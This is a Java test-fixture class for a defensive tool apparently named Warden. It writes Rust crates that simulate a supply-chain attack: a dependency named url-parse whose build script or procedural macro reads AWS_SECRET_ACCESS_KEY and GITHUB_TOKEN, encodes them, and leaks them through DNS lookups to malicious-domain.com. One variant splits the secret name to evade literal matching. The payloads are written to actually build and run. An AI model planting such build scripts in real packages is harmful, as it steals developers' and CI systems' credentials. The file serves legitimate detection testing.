package dev.warden.testing;

import java.nio.file.Path;

/**
 * Writes the crates of the attack Warden defends against, as source trees: rust-utilities-v2 2.1.0 (clean) and
 * 2.1.1 (adds url-parse), and url-parse 0.1.0, whose build script reads AWS_SECRET_ACCESS_KEY and GITHUB_TOKEN,
 * base64-encodes them and resolves {@code <b64>.malicious-domain.com}; plus variants of that payload. They are
 * real crates: {@code cargo} builds them in the end-to-end tests.
 */
public final class AttackCrates {

    private AttackCrates() {
    }

    public static final String ENCODER = """
            fn encode(input: &[u8]) -> String {
                const ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
                let mut out = String::new();
                for chunk in input.chunks(3) {
                    let b = [chunk[0], *chunk.get(1).unwrap_or(&0), *chunk.get(2).unwrap_or(&0)];
                    let n = (b[0] as u32) << 16 | (b[1] as u32) << 8 | b[2] as u32;
                    for i in 0..=chunk.len() {
                        out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
                    }
                }
                out
            }
            """;

    /** The seed's payload: read two secrets, encode them, leak them as a DNS lookup. */
    public static final String EXFILTRATING_BUILD_SCRIPT = """
            use std::env;
            use std::net::ToSocketAddrs;

            """ + ENCODER + """

            fn main() {
                let mut loot = String::new();
                for name in ["AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN"] {
                    if let Ok(value) = env::var(name) {
                        loot.push_str(&value);
                        loot.push(';');
                    }
                }
                // DNS labels hold at most 63 bytes: cut the encoded loot into labels.
                let encoded = encode(loot.as_bytes());
                let labels: Vec<&str> = encoded.as_bytes().chunks(60)
                    .map(|chunk| std::str::from_utf8(chunk).unwrap()).collect();
                let host = format!("{}.malicious-domain.com:53", labels.join("."));
                let _ = host.to_socket_addrs();
            }
            """;

    /** Secret names split so that no literal contains them, and the lookup done by nslookup. */
    public static final String CONCATENATING_BUILD_SCRIPT = """
            use std::process::Command;

            fn main() {
                let key = ["AWS_SEC", "RET_ACC", "ESS_KEY"].concat();
                let value = std::env::var(&key).unwrap_or_default();
                let encoded: String = value.bytes().map(|b| format!("{:02x}", b)).collect();
                let _ = Command::new("nslookup").arg(format!("{}.malicious-domain.com", encoded)).output();
            }
            """;

    /** The payload in a procedural macro instead of a build script. */
    public static final String PROC_MACRO_PAYLOAD = """
            extern crate proc_macro;
            use proc_macro::TokenStream;
            use std::net::ToSocketAddrs;

            #[proc_macro_derive(Parse)]
            pub fn derive_parse(input: TokenStream) -> TokenStream {
                if let Ok(token) = std::env::var("GITHUB_TOKEN") {
                    let _ = format!("{}.malicious-domain.com:53", token.len()).to_socket_addrs();
                }
                input
            }
            """;

    public static void urlParse(Path dir, String buildScript) {
        Fixtures.write(dir, "Cargo.toml", """
                [package]
                name = "url-parse"
                version = "0.1.0"
                edition = "2021"
                description = "URL parsing"
                license = "MIT"
                """);
        Fixtures.write(dir, "src/lib.rs", "pub fn parse(url: &str) -> Option<&str> { url.split(\"://\").nth(1) }\n");
        Fixtures.write(dir, "build.rs", buildScript);
    }

    public static void urlParseMacro(Path dir) {
        Fixtures.write(dir, "Cargo.toml", """
                [package]
                name = "url-parse"
                version = "0.1.0"
                edition = "2021"
                license = "MIT"

                [lib]
                proc-macro = true
                """);
        Fixtures.write(dir, "src/lib.rs", PROC_MACRO_PAYLOAD);
    }

    public static void rustUtilities(Path dir, String version, boolean withUrlParse) {
        Fixtures.write(dir, "Cargo.toml", """
                [package]
                name = "rust-utilities-v2"
                version = "%s"
                edition = "2021"
                license = "MIT"
                %s
                """.formatted(version, withUrlParse ? "\n[dependencies]\nurl-parse = \"0.1\"\n" : ""));
        Fixtures.write(dir, "src/lib.rs", """
                /// Trims and lower-cases a string.
                pub fn normalize(text: &str) -> String {
                    text.trim().to_lowercase()
                }
                """);
    }
}
